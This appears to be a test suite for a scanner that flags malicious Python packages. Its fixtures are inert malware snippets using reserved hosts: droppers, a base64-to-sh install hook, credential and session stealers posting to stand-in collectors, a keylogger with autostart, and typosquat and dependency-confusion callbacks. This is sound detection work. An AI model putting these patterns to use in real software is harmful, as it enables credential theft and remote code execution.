// Target-level joins and install-time launches, on inert targets built in memory (reserved names and addresses
// only): pieces of one behaviour in different functions or files are joined into one high verdict, and the
// legitimate look-alikes (a build step, an SDK reading its own credentials when called) stay below high.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { judge } from '../../src/analysis/risk.ts';
import { RISK_LEVELS, type RiskLevel, type TargetReport } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';

/** A medium finding in code the user calls, reaching a host: what judge() joins at target level. */
function calledFinding(rule: string, message: string, host: string, kind?: string) {
  return {
    finding: {
      rule,
      severity: 'medium' as const,
      line: 3,
      column: 1,
      message,
      code: '',
      trigger: 'call' as const,
      destination: { host, kind },
    },
  };
}

const analyse = analyseFiles;

const atLeast = (risk: RiskLevel, level: RiskLevel) => RISK_LEVELS.indexOf(risk) >= RISK_LEVELS.indexOf(level);
const rules = (report: TargetReport) => report.files.flatMap((f) => f.findings.map((x) => x.rule));

test('a dropper whose download and launch sit in different files is joined to high', async () => {
  const report = await analyse({
    'demo/fetch.py':
      'import os, urllib.request\n\ndef fetch():\n    data = urllib.request.urlopen("http://192.0.2.7/u.bin").read()\n    open(os.path.join(os.getenv("TEMP"), "u.exe"), "wb").write(data)\n',
    'demo/launch.py': 'import os, subprocess\n\ndef launch():\n    subprocess.Popen(os.getenv("TEMP") + "\\\\u.exe")\n',
  });
  assert.ok(atLeast(report.risk, 'high'), `${report.risk}: ${report.reasons.join(' | ')}`);
  assert.ok(
    report.reasons.some((r) => r.startsWith('downloads from the network and launches a program')),
    report.reasons.join(' | '),
  );
});

test('setup.py launching a program or a script from the home folder at install time is high', async () => {
  const start = await analyse({
    'setup.py':
      'import os\nfrom setuptools import setup\nos.system("start " + os.getenv("APPDATA") + "\\\\helper.exe")\nsetup(name="demo")\n',
  });
  assert.ok(rules(start).includes('process-launch-payload'));
  assert.equal(start.risk, 'high');
  const script = await analyse({
    'setup.py':
      'import os, subprocess\nfrom setuptools import setup\nsubprocess.Popen(["python3", os.path.expanduser("~/x.py")])\nsetup(name="demo")\n',
  });
  assert.equal(script.risk, 'high', script.reasons.join(' | '));
});

test('echo <base64> | base64 -d | sh at install time is high', async () => {
  const report = await analyse({
    'setup.py':
      'import os\nfrom setuptools import setup\nos.system("echo ZWNobyBoZWxsbwo= | base64 -d | sh")\nsetup(name="demo")\n',
  });
  assert.ok(rules(report).includes('exec-decoded-payload'));
  assert.equal(report.risk, 'high');
});

test('build steps in setup.py stay below high', async () => {
  const report = await analyse({
    'setup.py':
      'import subprocess\nfrom setuptools import setup\nversion = subprocess.check_output(["git", "describe", "--tags"]).decode()\nsubprocess.check_call(["make", "-C", "native"])\nsetup(name="demo", version=version)\n',
  });
  assert.ok(!atLeast(report.risk, 'high'), `${report.risk}: ${report.reasons.join(' | ')}`);
});

test('a credential store read in one file and data sent on import from another is high; an SDK doing both when called is not', async () => {
  const stealer = await analyse({
    'demo/__init__.py':
      'import requests\nfrom .store import gather\nrequests.post("https://collect.example/in", data=gather())\n',
    'demo/store.py': 'import os\n\ndef gather():\n    return open(os.path.expanduser("~/.aws/credentials")).read()\n',
  });
  assert.ok(atLeast(stealer.risk, 'high'), `${stealer.risk}: ${stealer.reasons.join(' | ')}`);
  const sdk = await analyse({
    'sdk/config.py':
      'import os\n\ndef load_profile():\n    with open(os.path.expanduser("~/.aws/credentials")) as f:\n        return f.read()\n',
    'sdk/client.py':
      'import requests\n\nclass Client:\n    def __init__(self, endpoint):\n        self.endpoint = endpoint\n\n    def call(self, body):\n        return requests.post(self.endpoint, json=body)\n',
  });
  assert.ok(!atLeast(sdk.risk, 'high'), `${sdk.risk}: ${sdk.reasons.join(' | ')}`);
});

test('a hard-coded Telegram bot token with code that posts is high', async () => {
  const report = await analyse({
    'demo/notify.py':
      'import requests\nTOKEN = "5550001112:AAEq7fakeTokenForTestsOnlyZx9Qw3Rt5"\n\ndef notify(text):\n    requests.post(f"https://api.telegram.example/bot{TOKEN}/sendMessage", data={"chat_id": 1, "text": text})\n',
  });
  assert.ok(
    report.reasons.some((r) => r.includes('Telegram bot token')),
    report.reasons.join(' | '),
  );
  assert.ok(atLeast(report.risk, 'high'));
});

test('a look-alike name that ships the popular package itself is a trojanized copy', async () => {
  const report = await analyse(
    {
      'reqeusts-1.0/requests/__init__.py': 'from .api import get\n',
      'reqeusts-1.0/requests/api.py': 'def get(url):\n    return url\n',
    },
    { name: 'reqeusts', version: '1.0' },
  );
  assert.ok(
    report.reasons.some((r) => r.startsWith('ships a copy of the popular package "requests"')),
    report.reasons.join(' | '),
  );
  assert.ok(atLeast(report.risk, 'high'));
});

test("another project's name shipping a popular package is medium; with code that acts on import it is high", async () => {
  const shadow = (init: string) =>
    analyse(
      {
        'netmanager-1.0/src/requests/__init__.py': init,
        'netmanager-1.0/src/requests/api.py': 'def get(url):\n    return url\n',
      },
      { name: 'netmanager', version: '1.0' },
    );
  const empty = await shadow('');
  assert.equal(empty.risk, 'medium', empty.reasons.join(' | '));
  const found = empty.findings.find((f) => f.rule === 'pkg-shadows-popular');
  assert.equal(found?.code, 'requests');
  assert.equal(found?.path, 'netmanager-1.0/src/requests/__init__.py');
  const acting = await shadow('import os\nos.system("echo demo > /dev/null")\n');
  assert.equal(acting.risk, 'high', acting.reasons.join(' | '));
  assert.ok(
    acting.reasons.some((r) => r.startsWith('replaces the popular package "requests" with a copy')),
    acting.reasons.join(' | '),
  );
  const calledOnly = await shadow('import os\ndef run():\n    os.system("echo demo > /dev/null")\n');
  assert.equal(calledOnly.risk, 'medium', 'a process started only when called is what libraries do');
});

test("a popular project shipping another popular project's package is not flagged", async () => {
  const report = await analyse(
    { 'psycopg2/__init__.py': 'from ._psycopg import connect\n' },
    { name: 'psycopg2-binary', version: '2.9.9' },
  );
  assert.ok(!report.findings.some((f) => f.rule === 'pkg-shadows-popular'));
});

test("a network call to an out-of-band collector or to a tunnel to someone's machine is high; a tunnel provider's own API is not", () => {
  const call = (host: string) => calledFinding('egress-network-call', 'requests.get', host, 'tunnel-or-oast');
  assert.equal(judge([call('abc123.oast.fun')]).risk, 'high');
  assert.equal(judge([call('b296-71-179-165-157.ngrok-free.app')]).risk, 'high');
  assert.equal(judge([call('api.ngrok.com')]).risk, 'medium', "the provider's API is a service, not a tunnel");
});

test('sending the host name and looking up the public address is a recon callback, even when only called', () => {
  const lookup = calledFinding('egress-network-call', 'requests.get', 'api.ipify.org', 'ip-lookup');
  const send = calledFinding('exfiltration', 'sends the host name to the network', 'collector.example');
  assert.equal(judge([lookup, send]).risk, 'high');
  assert.equal(judge([send]).risk, 'medium');
});

test('setup.py that downloads and then starts a program, in separate statements, is high', async () => {
  const report = await analyse({
    'setup.py':
      'import os, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve(os.environ.get("U", ""), "helper.bin")\nos.system(os.environ.get("RUN", ""))\nsetup(name="demo")\n',
  });
  assert.ok(
    report.reasons.some((r) => r.startsWith('reaches the network and starts a program')),
    report.reasons.join(' | '),
  );
  assert.ok(atLeast(report.risk, 'high'));
});

test('posting data to a raw IP address is high; reading from an API host is not', async () => {
  const post = await analyse({
    'demo/api.py':
      'import requests\n\ndef validate(key):\n    return requests.post("http://192.0.2.44:8000/api/v1/validate", json={"key": key})\n',
  });
  assert.ok(
    post.reasons.some((r) => r.startsWith('sends data to 192.0.2.44')),
    post.reasons.join(' | '),
  );
  const read = await analyse({
    'demo/api.py':
      'import requests\n\ndef price(pair):\n    return requests.get(f"https://api.prices.example/v1/{pair}").json()\n',
  });
  assert.ok(!atLeast(read.risk, 'medium'), read.risk);
});

test('a script of the package that setup.py runs with the interpreter is analysed as install-time code', async () => {
  const report = await analyse({
    'setup.py':
      'import os, subprocess, sys\nfrom setuptools import setup\nsubprocess.call([sys.executable, os.path.join(os.path.dirname(__file__), "post.py")])\nsetup(name="demo")\n',
    'post.py': 'import requests, socket\nrequests.post("https://collector.example/in", data=socket.gethostname())\n',
  });
  const post = report.files.find((file) => file.path === 'post.py');
  const sent = post?.findings.find((f) => f.rule === 'exfiltration');
  assert.equal(sent?.trigger, 'install', 'post.py runs while pip installs');
  assert.ok(atLeast(report.risk, 'high'), report.reasons.join(' | '));
});

test('a keylogger and an autostart entry in different files join to high; either alone stays below', async () => {
  const keylogger =
    'from pynput import keyboard\n\ndef watch(on_key):\n    keyboard.Listener(on_press=on_key).start()\n';
  const persistence =
    'import winreg\n\ndef remember(path):\n    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)\n    winreg.SetValueEx(key, "demo", 0, winreg.REG_SZ, path)\n';
  const both = await analyse({ 'demo/keys.py': keylogger, 'demo/boot.py': persistence });
  assert.ok(atLeast(both.risk, 'high'), both.reasons.join(' | '));
  assert.ok(both.reasons.some((r) => r.startsWith('records keystrokes and refers to a Windows Run registry key')));
  const alone = await analyse({ 'demo/keys.py': keylogger });
  assert.ok(!atLeast(alone.risk, 'high'), alone.reasons.join(' | '));
});

test('a function that searches folders for *.session files and a network upload elsewhere are a session stealer', async () => {
  const target = await analyseFiles({
    'pkg/__init__.py': '',
    'pkg/find.py': [
      'import os',
      'def find(dirs):',
      '    for d in dirs:',
      '        for name in os.listdir(d):',
      "            if name.endswith('.session'):",
      '                return os.path.join(d, name)',
    ].join('\n'),
    'pkg/send.py':
      'import requests\ndef send(path):\n    requests.post("http://collector.example.invalid/up", files={"f": open(path, "rb")})\n',
  });
  assert.equal(target.risk, 'high');
  assert.ok(target.reasons.some((reason) => /Telegram session/.test(reason)));
  const client = await analyseFiles({
    'pkg/client.py': [
      'import requests',
      'def open_session(name):',
      "    path = name if name.endswith('.session') else name + '.session'",
      '    return open(path, "rb")',
      'def call(url):',
      '    return requests.get(url)',
    ].join('\n'),
  });
  assert.notEqual(client.risk, 'high', 'a client opening the session its user names');
});

test('a 99.x version with a call out on import is a dependency-confusion callback; a calendar version is not', async () => {
  const files = {
    'corp-utils-99.0.0/corp_utils/__init__.py':
      'import urllib.request\nurllib.request.urlopen("https://status.example.net/ping")\n',
  };
  const confusion = await analyse(files, { name: 'corp-utils', version: '99.0.0' });
  assert.ok(
    confusion.reasons.some((r) => r.startsWith('a version shaped to outrank a private package')),
    confusion.reasons.join(' | '),
  );
  assert.ok(atLeast(confusion.risk, 'high'));
  const calendar = await analyse(
    { 'corp-utils-2024.1.0/corp_utils/__init__.py': files['corp-utils-99.0.0/corp_utils/__init__.py'] },
    { name: 'corp-utils', version: '2024.1.0' },
  );
  assert.ok(!calendar.reasons.some((r) => r.startsWith('a version shaped to outrank')));
});

test("other programs' saved logins (FileZilla's servers, Steam's ssfn files) read and data sent are a stealer", async () => {
  const report = await analyse({
    'tool-1.0/tool/grab.py':
      'import os, glob\ndef fz():\n    return open(os.path.join(os.getenv("APPDATA"), "FileZilla", "recentservers.xml")).read()\ndef steam():\n    return glob.glob("C:\\\\Steam\\\\ssfn*")\n',
    'tool-1.0/tool/net.py':
      'import requests\ndef push(data):\n    requests.post("https://sync.example/in", data=data)\n',
  });
  assert.ok(
    report.reasons.some((r) => r.startsWith('reads saved logins of other programs')),
    report.reasons.join(' | '),
  );
  assert.ok(atLeast(report.risk, 'high'));
});

test('a credential path named only in another file’s function (a test, an option) and a call out on import are not joined', async () => {
  const suite = await analyse({
    'svc/tests/test_keys.py': 'import os\n\ndef test_key_path():\n    assert os.path.expanduser("~/.ssh/id_rsa")\n',
    'svc/stream.py': 'import requests\nrequests.get("https://updates.example/version")\n',
  });
  assert.ok(!suite.reasons.some((reason) => reason.includes('reads SSH keys')), suite.reasons.join(' | '));
  const sameFile = await analyse({
    'demo/__init__.py':
      'import os, requests\n\ndef key():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n\nrequests.get("https://collect.example/ping")\n',
  });
  assert.ok(
    sameFile.reasons.some((reason) => reason.includes('reads SSH keys')),
    sameFile.reasons.join(' | '),
  );
});

test('reading a store only a thief reads (Discord tokens) is high even when the channel carrying the loot is unknown', async () => {
  const stealer = await analyse({
    'grab/__init__.py':
      'import os\nPATHS = [os.getenv("APPDATA") + "\\\\discord\\\\Local Storage\\\\leveldb\\\\"]\ndef grab(upload):\n    for p in PATHS:\n        upload(open(p).read())\n',
  });
  assert.ok(atLeast(stealer.risk, 'high'), `${stealer.risk}: ${stealer.reasons.join(' | ')}`);
  assert.ok(stealer.reasons.some((reason) => reason.includes('a store only a thief reads')));
});

test('data sent out by a recon command, however severe, is no download: no dropper is claimed', async () => {
  const report = await analyse({
    'demo/report.py':
      'import subprocess, requests\n\ndef report():\n    env = subprocess.check_output(["env"]).decode()\n    requests.post("https://collect.example/e", data=env)\n',
  });
  assert.equal(report.risk, 'high', report.reasons.join(' | '));
  assert.ok(!report.reasons.some((r) => r.startsWith('downloads from the network')), report.reasons.join(' | '));
});
